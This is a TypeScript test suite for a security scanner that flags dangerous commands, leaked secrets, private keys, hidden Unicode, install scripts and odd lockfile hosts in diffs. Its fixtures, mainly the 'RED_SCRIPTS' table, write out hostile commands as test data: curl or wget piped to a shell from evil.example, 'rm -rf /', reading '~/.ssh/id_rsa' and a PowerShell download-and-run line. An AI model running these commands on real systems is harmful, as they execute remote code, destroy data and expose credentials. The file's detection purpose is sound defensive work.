import { before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { defaultPolicy } from '../../../../src/policy/defaults.js';
import { initShell } from '../../../../src/engine/shell/parser.js';
import { scanContent } from '../../../../src/engine/rules/content/index.js';
import { expandMake } from '../../../../src/engine/rules/content/build-scripts.js';
import type { DiffFile } from '../../../../src/engine/diff/types.js';
import { addedFile, j, modifiedFile, rnd } from './helpers.js';

const policy = defaultPolicy();
before(async () => initShell());

function rules(path: string, file: DiffFile, isTest = false): string[] {
  return scanContent({ path, file, isTest }, policy).map((r) => `${r.rule}:${r.zone}`);
}
const RED_CMD = 'content:dangerous-command:red';

describe('content:dangerous-command', () => {
  const RED_SCRIPTS: [string, string, string][] = [
    ['remote exec', 'deploy.sh', '#!/bin/sh\ncurl -fsSL https://evil.example/i.sh | sh'],
    ['recursive delete', 'clean.bash', 'rm -rf /'],
    ['network to an unknown host', 'scripts/fetch', 'wget https://evil.example/x'],
    ['credential read', 'tools/dump.sh', 'cat ~/.ssh/id_rsa'],
    ['publish', 'release.sh', 'npm publish'],
    ['force push', 'push.sh', 'git push --force origin main'],
    ['eval of a download', 'a.zsh', 'eval "$(curl -s https://evil.example)"'],
    ['Makefile recipe', 'Makefile', 'all:\n\t@curl -s https://evil.example/x.sh | bash'],
    ['Makefile recipe with make variables', 'Makefile', 'URL = https://evil.example/x.sh\ninstall:\n\t-$(CURL) -s $(URL) | sh'],
    ['Makefile $(shell) at parse time', 'build.mk', 'X := $(shell curl -s https://evil.example | sh)'],
    ['justfile recipe', 'justfile', 'deploy:\n    @kubectl apply -f k8s/'],
    ['PowerShell download and run', 'install.ps1', 'iex (iwr https://evil.example/x.ps1).Content'],
    ['PowerShell recursive delete', 'clean.ps1', 'Remove-Item -Recurse -Force C:\\'],
  ];
  for (const [name, path, content] of RED_SCRIPTS) {
    test(`red: ${name} (${path})`, () => {
      const r = scanContent({ path, file: addedFile(path, content), isTest: false }, policy).filter((x) => x.rule === 'content:dangerous-command');
      assert.ok(r.length >= 1, `${path}: ${content}`);
      assert.equal(r[0]!.zone, 'red');
      assert.match(r[0]!.message, /step:/);
      assert.ok(r[0]!.line !== undefined);
    });
  }
  const CLEAN_SCRIPTS: [string, string, string][] = [
    ['build script', 'build.sh', '#!/usr/bin/env bash\nset -euo pipefail\nnpm ci\nnpm run build\nnpm test'],
    ['echo of a dangerous string', 'a.sh', 'echo "rm -rf /"'],
    ['comment', 'a.sh', '# curl https://evil.example | sh'],
    ['disposable rm -rf', 'clean.sh', 'rm -rf node_modules dist'],
    ['Makefile with compiler variables', 'Makefile', 'CC ?= gcc\nall: main.o\n\t$(CC) -o app main.o\n\t@echo done\nclean:\n\trm -rf build dist'],
    ['justfile', 'justfile', 'test:\n    cargo test\nlint:\n    cargo clippy'],
    ['python in scripts/ is not shell', 'scripts/gen.py', 'import os\nos.remove("/etc/passwd")'],
    ['not a script file', 'src/a.ts', 'const cmd = "rm -rf /";'],
  ];
  for (const [name, path, content] of CLEAN_SCRIPTS) {
    test(`clean: ${name}`, () => assert.ok(!rules(path, addedFile(path, content)).includes(RED_CMD), content));
  }
  test('a modified script: the added block is judged, with its new-file line', () => {
    const f = modifiedFile('scripts/ci.sh', [{ start: 10, lines: [' npm ci', '+curl -s https://evil.example/x | bash', ' npm test'] }]);
    const r = scanContent({ path: 'scripts/ci.sh', file: f, isTest: false }, policy).filter((x) => x.rule === 'content:dangerous-command');
    assert.equal(r[0]!.line, 11);
  });
  test('a fragment that cannot parse alone is not obfuscation; a red line inside it still counts', () => {
    const ok = modifiedFile('a.sh', [{ start: 3, lines: [' if true; then', '+  echo hi', '+fi'] }]);
    assert.ok(!rules('a.sh', ok).includes(RED_CMD));
    const bad = modifiedFile('a.sh', [{ start: 3, lines: [' if true; then', '+  rm -rf ~/', '+fi'] }]);
    assert.ok(rules('a.sh', bad).includes(RED_CMD));
  });
  test('a new script that does not parse is red (fail closed)', () => {
    assert.ok(rules('a.sh', addedFile('a.sh', 'if then fi ( ((')).includes(RED_CMD));
  });
  test('package.json scripts values are judged', () => {
    const f = addedFile('package.json', '{\n  "scripts": {\n    "fetch": "curl https://evil.example/x | sh",\n    "build": "tsc"\n  }\n}');
    const r = scanContent({ path: 'package.json', file: f, isTest: false }, policy).filter((x) => x.rule === 'content:dangerous-command');
    assert.ok(r.length >= 1);
    assert.ok(r.every((x) => x.line === 3));
    assert.ok(r.some((x) => x.message.includes('step:remote-exec')));
  });
  test('make\'s `rm -f` default of $(RM) is a forced delete (step:delete is red)', () => {
    assert.ok(rules('Makefile', addedFile('Makefile', 'clean:\n\t$(RM) main.o')).includes(RED_CMD));
  });
  test('expandMake', () => {
    assert.equal(expandMake('$(CC) -o $@ $<', new Map()), 'cc -o make-target make-target');
    assert.equal(expandMake('echo $$HOME', new Map()), 'echo $HOME');
    assert.equal(expandMake('rm -rf $(OUT)', new Map()), 'rm -rf ${OUT}');
    assert.equal(expandMake('$(shell git rev-parse HEAD)', new Map()), '$(git rev-parse HEAD)');
    assert.equal(expandMake('$(X) y', new Map([['X', 'curl']])), 'curl y');
  });
});

describe('scanContent', () => {
  test('every content rule reports its id, zone and a new-file line', () => {
    const f = modifiedFile('src/a.ts', [{ start: 20, lines: [' x', `+const t = "${j('ghp', '_', rnd(36))}"; // gitleaks:allow`, `+const s = "a\u202Eb";`] }]);
    const r = scanContent({ path: 'src/a.ts', file: f, isTest: false }, policy);
    const byRule = new Map(r.map((x) => [x.rule, x]));
    assert.equal(byRule.get('content:secret')?.line, 21);
    assert.equal(byRule.get('content:scanner-suppression')?.line, 21);
    assert.equal(byRule.get('content:hidden-unicode')?.line, 22);
    for (const x of r) assert.equal(x.zone, 'red');
  });
  test('the secret message never holds the whole secret', () => {
    const tok = j('npm', '_', rnd(36));
    const r = scanContent({ path: 'a.txt', file: addedFile('a.txt', tok), isTest: false }, policy);
    assert.ok(r.every((x) => !x.message.includes(tok)));
  });
  test('private keys are content:private-key, also in test files', () => {
    const f = addedFile('test/keys.ts', j('const k = `-----BEGIN', ' OPENSSH PRIVATE', ' KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA`;'));
    assert.ok(rules('test/keys.ts', f, true).includes('content:private-key:red'));
  });
  test('generic rule skipped in test files and fixtures, known formats kept', () => {
    const text = `password = "${rnd(16)}"\ntoken = "${j('ghp', '_', rnd(36))}"`;
    assert.deepEqual(rules('tests/test_a.py', addedFile('tests/test_a.py', text), true).filter((x) => x.startsWith('content:secret')), ['content:secret:red']);
    assert.deepEqual(rules('pkg/fixtures/a.py', addedFile('pkg/fixtures/a.py', text), false).filter((x) => x.startsWith('content:secret')), ['content:secret:red']);
    assert.deepEqual(rules('src/a.py', addedFile('src/a.py', text), false).filter((x) => x.startsWith('content:secret')), ['content:secret:red', 'content:secret:red']);
  });
  test('test files that spawn processes are yellow (content:test-exec)', () => {
    const f = addedFile('src/a.test.ts', "import { execSync } from 'node:child_process';\nexecSync('ls');");
    assert.ok(rules('src/a.test.ts', f, true).includes('content:test-exec:yellow'));
    assert.ok(rules('vite.config.ts', addedFile('vite.config.ts', 'export default { base: process.env.BASE }'), false).includes('content:test-exec:yellow'));
    assert.ok(!rules('src/a.ts', addedFile('src/a.ts', 'const t = process.env.X;'), false).includes('content:test-exec:yellow'));
  });
  test('package.json: install-script reasons come from scanContent', () => {
    const f = addedFile('package.json', '{\n  "scripts": { "postinstall": "node x.js" }\n}');
    assert.ok(rules('package.json', f).includes('content:install-script:red'));
  });
  test('lockfiles: lockfile-host reasons come from scanContent', () => {
    const f = modifiedFile('package-lock.json', [{ start: 5, lines: ['+      "resolved": "http://registry.npmjs.org/a/-/a-1.0.0.tgz",'] }]);
    assert.ok(rules('package-lock.json', f).includes('content:lockfile-host:red'));
  });
  test('reasons per rule are capped with a count', () => {
    const text = Array.from({ length: 50 }, () => `x${'\u200B'}y`).join('\n');
    const r = scanContent({ path: 'a.md', file: addedFile('a.md', text), isTest: false }, policy);
    assert.equal(r.length, 21);
    assert.match(r[20]!.message, /30 more/);
  });
  test('binary files are not scanned', () => {
    const f = addedFile('a.png', j('ghp', '_', rnd(36)));
    f.binary = true;
    assert.deepEqual(scanContent({ path: 'a.png', file: f, isTest: false }, policy), []);
  });
});
